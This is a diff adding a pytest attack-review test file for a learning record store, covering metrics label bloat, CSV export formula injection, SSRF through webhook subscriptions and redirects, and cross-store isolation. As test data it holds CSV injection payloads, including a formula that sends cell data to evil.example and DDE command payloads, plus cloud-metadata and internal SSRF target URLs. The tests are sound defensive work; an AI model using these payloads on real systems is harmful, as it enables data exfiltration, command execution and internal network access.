@@ -1,0 +1,167 @@
+"""Attack review of the surfaces added on 2026-11-30 (health/metrics, profiles, exports, aggregations, the
+statement browser, automation), on SQLite and PostgreSQL. Each test is one finding reproduced with a
+concrete request. Findings in code still being edited by its authors are strict xfails naming the fix
+(docs/security.md, "New surfaces (2026-11-30)"); a fix landing turns them into an XPASS, which fails,
+so the marker must be removed with it."""
+from __future__ import annotations
+
+import http.server
+import secrets
+import threading
+
+import pytest
+from prometheus_client.parser import text_string_to_metric_families
+
+from lrs.app import create_app
+from tests.conftest import XapiClient
+
+EXPORT = "/api/v1/exports/statements"
+
+
+@pytest.fixture
+def metered_app(settings, monkeypatch):
+    token = secrets.token_urlsafe(40)
+    monkeypatch.setenv("LRS_METRICS", "credential")
+    monkeypatch.setenv("LRS_METRICS_TOKEN", token)
+    monkeypatch.delenv("PROMETHEUS_MULTIPROC_DIR", raising=False)
+    application = create_app(settings)
+    yield application, token
+    application.extensions["lrs"].close()
+
+
+def _request_series(application, token) -> list[dict]:
+    with application.test_client().get("/metrics", headers={"Authorization": f"Bearer {token}"}) as scrape:
+        assert scrape.status_code == 200
+        text = scrape.get_data(as_text=True)
+    return [sample.labels for family in text_string_to_metric_families(text) for sample in family.samples
+            if sample.name == "lrs_http_requests_total"]
+
+
+def test_metrics_method_label_takes_only_known_methods(metered_app):
+    # Found: any anonymous client could add series without bound by sending made-up methods
+    # (`curl -X M1234 /xapi/about` added 18 series per method name: counter and histogram buckets), growing
+    # every worker's memory and each scrape. RFC 9110 §9: methods are open-ended tokens, so the label keeps
+    # the standard ones and counts the rest as one "other".
+    application, token = metered_app
+    client = application.test_client()
+    made_up = [f"M{secrets.token_hex(4).upper()}" for _ in range(5)]
+    for method in made_up:
+        with client.open("/xapi/about", method=method) as answer:
+            assert answer.status_code == 405
+    with client.open("/xapi/about", method="GET") as answer:
+        assert answer.status_code == 200
+    methods = {labels["method"] for labels in _request_series(application, token)}
+    assert not methods & set(made_up)
+    assert {"GET", "other"} <= methods
+
+
+# --- Exports: CSV formula injection (OWASP "CSV Injection") -------------------------------------------------
+
+FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
+            "@SUM(1+1)", "\t=1+1", "\r=1+1"]
+
+
+@pytest.mark.xfail(strict=True, reason="analytics/columns.py CsvWriter writes a statement's strings as they are: a "
+                                       "cell starting with = + - @ TAB or CR is a formula to Excel/LibreOffice/Sheets "
+                                       "(fix: prefix such string cells with a single quote; leave JSON numbers as "
+                                       "they are; document it in docs/analytics.md)")
+def test_csv_export_neutralises_cells_a_spreadsheet_would_run_as_formulas(xapi):
+    import csv
+    import io
+    statements = [{"actor": {"mbox": "mailto:formula@example.com", "name": text},
+                   "verb": {"id": "http://adlnet.gov/expapi/verbs/answered"},
+                   "object": {"id": "http://example.com/q1"},
+                   "result": {"response": text, "score": {"raw": -2}}} for text in FORMULAS]
+    with xapi.post_statements(statements) as stored:
+        assert stored.status_code == 200
+    with xapi.http.get(EXPORT, headers={"Authorization": xapi.headers["Authorization"]},
+                       query_string={"columns": "actor.name,result.response,result.score.raw"}) as export:
+        assert export.status_code == 200 and export.mimetype == "text/csv"
+        rows = list(csv.reader(io.StringIO(export.get_data(as_text=True))))
+    assert len(rows) == 1 + len(FORMULAS)
+    for row in rows[1:]:
+        assert row[3] == "-2"  # a number stays a number
+        for cell in row[1:3]:
+            assert cell[0] not in "=+-@\t\r", row
+
+
+# --- Automation: where the server sends requests -----------------------------------------------------------
+
+def _admin_headers(app) -> dict:
+    import base64
+    username, password = f"attack-{secrets.token_hex(4)}", secrets.token_urlsafe(18)
+    app.extensions["lrs"].administration.create_admin("attack-review", username, password)
+    return {"Authorization": "Basic " + base64.b64encode(f"{username}:{password}".encode()).decode()}
+
+
+@pytest.mark.xfail(strict=True, reason="automation/forwarding/subscriptions.py checked_url accepts any http(s) host: "
+                                       "an admin can point the worker at the cloud metadata service (169.254.169.254) "
+                                       "and read 200 characters of each non-2xx answer in the delivery log (fix: "
+                                       "refuse link-local, unspecified and multicast addresses, at creation and again "
+                                       "after DNS resolution at send time)")
+@pytest.mark.parametrize("url", ["http://169.254.169.254/latest/meta-data/", "http://[fe80::1]/",
+                                 "http://0.0.0.0:6379/"])
+def test_a_subscription_to_a_metadata_or_unspecified_address_is_refused(app, store_credential, url):
+    headers = _admin_headers(app)
+    with app.test_client().post(f"/admin/automation/stores/{store_credential.store_id}/subscriptions",
+                                json={"url": url}, headers=headers) as created:
+        assert created.status_code == 400, created.get_json()
+        assert created.get_json()["path"] == "url"
+
+
+class _Redirecting(http.server.BaseHTTPRequestHandler):
+    hits: list = []
+
+    def log_message(self, *arguments):
+        pass
+
+    def do_POST(self):  # noqa: N802 - http.server's name
+        self.hits.append(("POST", self.path))
+        self.send_response(302)
+        self.send_header("Location", "/internal-only")
+        self.send_header("Content-Length", "0")
+        self.end_headers()
+
+    def do_GET(self):  # noqa: N802
+        self.hits.append(("GET", self.path))
+        self.send_response(200)
+        self.send_header("Content-Length", "2")
+        self.end_headers()
+        self.wfile.write(b"ok")
+
+
+@pytest.mark.xfail(strict=True, reason="automation/support/desk.py post_to_webhook uses urllib.request.urlopen, which "
+                                       "follows redirects: a 302 turns the POST into a GET of any address the "
+                                       "receiver names, and the request counts as delivered though its body never "
+                                       "arrived (forwarding passes allow_redirects=False; fix: an opener without "
+                                       "HTTPRedirectHandler, or requests with allow_redirects=False, and a 3xx "
+                                       "raises WebhookRefused)")
+def test_support_webhook_does_not_follow_a_redirect_nor_count_it_as_delivered():
+    from automation.support.desk import WebhookRefused, post_to_webhook
+    _Redirecting.hits = []
+    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _Redirecting)
+    threading.Thread(target=server.serve_forever, daemon=True).start()
+    try:
+        with pytest.raises(WebhookRefused):
+            post_to_webhook(f"http://127.0.0.1:{server.server_address[1]}/hook", {"subject": "help"}, "key-1")
+    finally:
+        server.shutdown()
+        server.server_close()
+    assert _Redirecting.hits == [("POST", "/hook")]
+
+
+def test_a_store_credential_reads_no_other_stores_export_cursor_or_profile_report(app, xapi):
+    # Verified, kept as a regression: a statement id of store B used by store A as an export cursor is
+    # "no statement of this store" (no position leaks), and B's profile report is empty for A.
+    from tests.factories import issue_credential
+    other = issue_credential(app.extensions["lrs"], "attack other store")
+    other_client = XapiClient(app.test_client(), other.key, other.secret)
+    with other_client.post_statements({"actor": {"mbox": "mailto:b@example.com"}, "verb": {"id": "http://e.x/v"},
+                                       "object": {"id": "http://e.x/o"}}) as stored:
+        foreign_id = stored.get_json()[0]
+    auth = {"Authorization": xapi.headers["Authorization"]}
+    with xapi.http.get(EXPORT, headers=auth, query_string={"cursor": foreign_id}) as resumed:
+        assert resumed.status_code == 404 and resumed.get_json()["path"] == "cursor"
+    with xapi.http.get(f"/api/v1/profiles/reports/statements/{foreign_id}", headers=auth) as report:
+        assert report.status_code in (200, 404)
+        assert not (report.get_json() if report.status_code == 200 else [])
